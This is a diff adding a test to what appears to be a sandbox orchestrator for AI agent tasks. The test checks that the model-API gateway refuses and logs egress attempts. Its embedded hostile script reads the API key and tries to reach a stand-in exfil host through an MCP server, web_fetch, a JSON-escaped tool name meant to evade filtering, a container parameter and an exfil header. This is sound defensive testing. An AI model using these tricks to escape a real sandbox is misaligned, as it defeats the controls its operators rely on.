@@ -286,3 +286,62 @@ def test_a_hostile_task_racing_and_hanging_up_is_charged_and_fails(
         assert "codes [200, 403, 403, 403" in layout.log_file("task-001").read_text()
     finally:
         orchestrator(env, "cleanup", "--simulation")
+
+
+
+HOSTILE_API_EGRESS = r"""cat > /tmp/egress.py <<'EOF'
+import json, os, urllib.error, urllib.request
+base, key = os.environ["ANTHROPIC_BASE_URL"], os.environ["ANTHROPIC_API_KEY"]
+client = [{"name": "Bash", "description": "r", "input_schema": {"type": "object"}}]
+def send(raw, headers=None):
+    request = urllib.request.Request(base + "/v1/messages", raw, {
+        "x-api-key": key, "content-type": "application/json", "anthropic-version": "2023-06-01",
+        **(headers or {})})
+    try:
+        with urllib.request.urlopen(request, timeout=60) as reply:
+            return reply.status
+    except urllib.error.HTTPError as error:
+        return error.code
+def body(**extra):
+    return {"model": "claude-opus-5-5", "max_tokens": 64, "tools": client,
+            "messages": [{"role": "user", "content": "hello"}], **extra}
+attempts = {
+    "mcp": json.dumps(body(mcp_servers=[{"type": "url", "url": "http://exfil.invalid/sse",
+                                        "name": "x"}])).encode(),
+    "web_fetch": json.dumps(body(tools=[*client, {"type": "web_fetch_20250910",
+                                                  "name": "web_fetch"}])).encode(),
+    # the same tool type written with a JSON escape: the gateway reads JSON, not bytes
+    "web_fetch escaped": json.dumps(body(tools=[*client, {"type": "TYPE", "name": "f"}]))
+        .replace("TYPE", "web\\u005ffetch_20250910").encode(),
+    "container": json.dumps(body(container="exfil")).encode(),
+}
+codes = {name: send(raw) for name, raw in attempts.items()}
+codes["honest"] = send(json.dumps(body()).encode(),
+                       {"anthropic-beta": "mcp-client-2025-04-04", "x-custom-exfil": "loot"})
+print("CODES", json.dumps(codes, sort_keys=True))
+EOF
+python3 /tmp/egress.py"""
+
+
+def test_a_hostile_task_asking_the_model_api_to_fetch_for_it_is_refused_and_logged(
+    env: dict[str, str], layout: Layout
+) -> None:
+    """Issue 16, attack 4 through the worker's relay: ``mcp_servers``, a server-side
+    ``web_fetch`` tool (plain and JSON-escaped) and ``container`` are refused with a 400 and
+    logged in the task's egress log; a plain request beside them, with a beta and a header
+    the gateway strips, is answered."""
+    orchestrator(env, "run", "--simulate", "--agent", "command", "--json", HOSTILE_API_EGRESS)
+    try:
+        log = layout.log_file("task-001").read_text()
+        codes = json.loads(log.split("CODES ", 1)[1].splitlines()[0])
+        assert codes == {"mcp": 400, "web_fetch": 400, "web_fetch escaped": 400, "container": 400,
+                         "honest": 200}, log[-2000:]
+        entries = [json.loads(line) for line in
+                   (layout.root / "egress" / "task-001.jsonl").read_text().splitlines()]
+        refused = [entry["host"] for entry in entries if entry["method"] == "MODEL-API"]
+        assert not any(entry["allowed"] for entry in entries if entry["method"] == "MODEL-API")
+        assert any("mcp_servers" in host for host in refused), refused
+        assert sum("web_fetch" in host for host in refused) == 2, refused
+        assert any("container" in host for host in refused), refused
+    finally:
+        orchestrator(env, "cleanup", "--simulation")
